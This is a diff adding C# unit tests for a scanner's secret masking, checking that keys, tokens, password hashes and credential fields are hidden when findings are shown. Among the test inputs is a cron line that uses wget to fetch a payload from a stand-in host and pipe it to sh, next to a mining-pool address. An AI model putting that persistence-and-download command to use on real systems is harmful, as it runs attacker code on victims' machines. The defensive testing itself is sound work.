@@ -79,6 +79,32 @@ public sealed class ContentTellerTests
         Assert.That(ContentText.Lines(content, new SecretMask(show: false)).Last(), Is.EqualTo("…"));
     }
 
+    [TestCase("secret-file", "hunter2\n", true)]
+    [TestCase("file-hidden", "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXk\n", true)]
+    [TestCase("file-hidden", "an ordinary text\n", false)]
+    public void A_file_that_is_a_secret_is_not_shown(string rule, string text, bool isSecret)
+    {
+        Layer layer = new TestLayer("keys").File("k", text).Over(_top);
+        // Whichever finding names it.
+        FindingContent content = Tell(Of("k", layer), Of("k", layer) with { Rule = rule })[0].Content!;
+        Assert.That(content.IsSecret, Is.EqualTo(isSecret));
+        string shown = string.Concat(ContentText.Lines(content, new SecretMask(show: false)));
+        Assert.That(shown.Contains(text.Trim(), StringComparison.Ordinal), Is.EqualTo(!isSecret));
+        Assert.That(ContentText.Masked(content, new SecretMask(show: false))!.Difference, isSecret ? Is.Empty : Is.Not.Empty);
+        Assert.That(string.Join('\n', ContentText.Lines(content, new SecretMask(show: true))), Does.Contain(text.Split('\n')[0]));
+    }
+
+    [TestCase("+eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ4In0.c2ln", "+•••• (41 characters)")]
+    [TestCase("root:$6$salt$hash/x.:19000:0", "root:•••• (15 characters):19000:0")]
+    [TestCase("  \"db_password\": \"s3cret\",", "  \"db_password\": •••• (8 characters),")]
+    [TestCase("apiToken: abc", "apiToken: •••• (3 characters)")]
+    [TestCase("aws AKIAABCDEFGHIJKLMNOP", "aws •••• (20 characters)")]
+    [TestCase("pool: 198.51.100.7:3333", "pool: 198.51.100.7:3333")]
+    [TestCase("root:x:0:0:root:/root:/bin/sh", "root:x:0:0:root:/root:/bin/sh")]
+    [TestCase("*/5 * * * * wget http://h/p|sh", "*/5 * * * * wget http://h/p|sh")]
+    public void Secrets_are_known_by_their_form(string line, string shown) =>
+        Assert.That(ContentMask.Line(line, new SecretMask(show: false)), Is.EqualTo(shown));
+
     private FindingContent Told(string path, bool isOfAbsence = false, EntryRef? below = null) =>
         Tell(Of(path, _top, below) with { IsOfAbsence = isOfAbsence }).Single().Content!;
 
